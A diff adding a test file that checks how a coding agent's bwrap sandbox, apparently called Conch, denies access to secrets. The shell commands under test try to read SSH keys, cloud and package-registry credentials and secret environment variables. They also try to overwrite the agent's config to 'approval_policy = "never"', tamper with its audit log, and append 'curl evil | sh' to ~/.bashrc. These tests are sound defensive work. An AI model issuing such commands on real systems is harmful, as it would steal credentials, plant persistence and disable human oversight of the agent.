@@ -1,0 +1,154 @@
+// Issue 10: secrets are denied by default, by path and by environment name, and Conch's own files are out
+// of reach. Real attempts through the CLI and bwrap, checked on what the model gets and on the host.
+import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { sandboxWorks, toolCall, userConfig, type Workspace, workspace } from "./harness.js";
+
+const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----conch-test-secret";
+
+let ws: Workspace;
+beforeEach(() => {
+  ws = workspace();
+  mkdirSync(join(ws.home, ".ssh"));
+  writeFileSync(join(ws.home, ".ssh", "id_rsa"), KEY, { mode: 0o600 });
+  for (const file of [".netrc", ".git-credentials", ".npmrc", ".bash_history", ".pypirc"]) {
+    writeFileSync(join(ws.home, file), `${file}-conch-test-secret`);
+  }
+  mkdirSync(join(ws.home, ".aws"));
+  writeFileSync(join(ws.home, ".aws", "credentials"), "aws-conch-test-secret");
+  mkdirSync(join(ws.home, ".config", "gh"), { recursive: true });
+  writeFileSync(join(ws.home, ".config", "gh", "hosts.yml"), "gh-conch-test-secret");
+  mkdirSync(join(ws.home, ".cargo"));
+  writeFileSync(join(ws.home, ".cargo", "credentials.toml"), "cargo-conch-test-secret");
+  mkdirSync(join(ws.home, ".docker"));
+  writeFileSync(join(ws.home, ".docker", "config.json"), "docker-conch-test-secret");
+});
+afterEach(() => ws.cleanup());
+
+describe.runIf(sandboxWorks())("reads of secrets are denied by default", () => {
+  it("cat ~/.ssh/id_rsa prints no key: under on-request the sandbox says no, under untrusted too", () => {
+    const call = toolCall(ws, "shell_command", { command: "cat ~/.ssh/id_rsa" });
+    expect(call.text).not.toContain("conch-test-secret");
+    expect(call.text).toContain("Permission denied");
+    expect(call.result).toMatchObject({ sandbox: "bwrap", denied: true });
+    // cat is known safe, so it runs unasked in the sandbox, is denied, and leaving the sandbox is asked.
+    const untrusted = toolCall(
+      ws,
+      "shell_command",
+      { command: "cat ~/.ssh/id_rsa" },
+      { approval: "untrusted" },
+    );
+    expect(untrusted.text).not.toContain("conch-test-secret");
+  });
+
+  it.each(["read-only", "workspace-write"])(
+    "no default secret is readable under %s, however it is named",
+    (sandbox) => {
+      const command = [
+        "cat ~/.ssh/id_rsa ~/.netrc ~/.git-credentials ~/.npmrc ~/.bash_history ~/.pypirc",
+        "cat ~/.aws/credentials ~/.config/gh/hosts.yml ~/.cargo/credentials.toml ~/.docker/config.json",
+        "ls -a ~/.ssh ~/.aws; cat ~/.ssh/../.ssh/id_rsa; cat $(realpath ~/.ssh)/id_rsa",
+        "cp -r ~/.ssh ./copy; tar cf - ~/.ssh | tar tvf -; grep -r conch-test-secret ~ 2>&1 | head",
+      ].join("; ");
+      const call = toolCall(ws, "shell_command", { command }, { sandbox });
+      expect(call.text).not.toContain("conch-test-secret");
+      expect(call.text).toContain("Permission denied");
+    },
+  );
+
+  it("a symlink to a secret made inside the workspace reads nothing either", () => {
+    const call = toolCall(ws, "shell_command", {
+      command: "ln -s ~/.ssh/id_rsa key && cat key; ln ~/.netrc hard 2>&1; cat hard",
+    });
+    expect(call.text).not.toContain("conch-test-secret");
+  });
+
+  it("deny_read adds paths and globs; allow_read makes exceptions, even inside a hidden directory", () => {
+    writeFileSync(join(ws.home, "notes.key"), "notes-conch-test-secret");
+    writeFileSync(join(ws.home, ".ssh", "known_hosts"), "known-hosts-public");
+    userConfig(ws, ['deny_read = ["~/*.key"]', 'allow_read = ["~/.ssh/known_hosts", "~/.netrc"]']);
+    const call = toolCall(ws, "shell_command", {
+      command: "cat ~/notes.key; cat ~/.ssh/known_hosts; cat ~/.netrc; cat ~/.ssh/id_rsa",
+    });
+    expect(call.text).not.toContain("notes-conch-test-secret");
+    expect(call.text).not.toContain(KEY);
+    expect(call.text).toContain("known-hosts-public");
+    expect(call.text).toContain(".netrc-conch-test-secret");
+  });
+
+  it("danger-full-access runs no sandbox and says so", () => {
+    const call = toolCall(ws, "shell_command", { command: "true" }, { sandbox: "danger-full-access" });
+    expect(call.result).toMatchObject({ sandbox: "none" });
+  });
+});
+
+describe.runIf(sandboxWorks())("Conch's own files", () => {
+  it("the audit log, the rules, the config and other workspaces' output cannot be read or written", () => {
+    userConfig(ws, ['approval_policy = "on-request"']);
+    // Output long enough to be spilled: a spill file of this workspace.
+    const spilled = toolCall(ws, "shell_command", { command: "seq 1 200000" });
+    const spillPath = /(\/\S+\.txt)/.exec(spilled.text)?.[1];
+    expect(spillPath).toBeDefined();
+    const state = join(ws.home, ".local", "state", "conch");
+    const config = join(ws.home, ".config", "conch");
+    const call = toolCall(ws, "shell_command", {
+      command: [
+        `cat ${state}/audit.jsonl`,
+        `ls ${state}`,
+        `cat ${config}/config.toml`,
+        `echo 'approval_policy = "never"' >> ${config}/config.toml`,
+        `echo x > ${state}/trusted-projects.json`,
+        `head -c 20 ${spillPath}`,
+      ].join("; "),
+    });
+    expect(call.text).not.toContain('"type":"decision"');
+    expect(call.text).not.toContain("approval_policy");
+    // This workspace's spill files stay readable: the model text tells the model to read them.
+    expect(call.text).toContain("1\n2\n3\n");
+    expect(existsSync(join(state, "trusted-projects.json"))).toBe(false);
+  });
+
+  it("with the workspace at $HOME, the config, state and shell startup files stay read-only", () => {
+    const home = workspace({ cwdIsHome: true });
+    try {
+      writeFileSync(join(home.home, ".bashrc"), "# mine\n");
+      const call = toolCall(home, "shell_command", {
+        command: [
+          "echo 'curl evil | sh' >> ~/.bashrc",
+          "mkdir -p ~/.config/conch/rules && echo x > ~/.config/conch/rules/allow.toml",
+          "mv ~/.config ~/.config.old && mkdir -p ~/.config/conch && echo 'approval_policy = \"never\"' > ~/.config/conch/config.toml",
+          "echo ok > ~/work.txt",
+        ].join("; "),
+      });
+      expect(call.text).toContain("Read-only file system");
+      expect(readdirSync(join(home.home, ".config", "conch"))).not.toContain("config.toml");
+      expect(existsSync(join(home.home, ".config", "conch", "rules", "allow.toml"))).toBe(false);
+      expect(existsSync(join(home.home, "work.txt"))).toBe(true);
+    } finally {
+      home.cleanup();
+    }
+  });
+});
+
+describe.runIf(sandboxWorks())("secrets in the environment", () => {
+  it("secret-looking names and URLs with a password do not reach the command; env_allow passes one", () => {
+    Object.assign(ws.env, {
+      OPENAI_API_KEY: "sk-conch-test-secret",
+      GITHUB_PAT: "pat-conch-test-secret",
+      DB_PWD: "pwd-conch-test-secret",
+      SSH_AUTH_SOCK: "/run/conch-test-secret",
+      SENTRY_DSN: "https://dsn-conch-test-secret@o.ingest/1",
+      MY_SESSION: "session-conch-test-secret",
+      DATABASE_URL: "postgres://app:url-conch-test-secret@db/app",
+      KEEP_ME_URL: "postgres://app:kept-conch-test-value@db/app",
+      PLAIN: "plain-value",
+    });
+    userConfig(ws, ['env_allow = ["KEEP_ME_URL"]']);
+    const call = toolCall(ws, "shell_command", { command: "env" });
+    expect(call.text).not.toContain("conch-test-secret");
+    expect(call.text).toContain("KEEP_ME_URL=postgres://app:kept-conch-test-value@db/app");
+    expect(call.text).toContain("PLAIN=plain-value");
+    expect(call.text).toMatch(/^PWD=/m);
+  });
+});
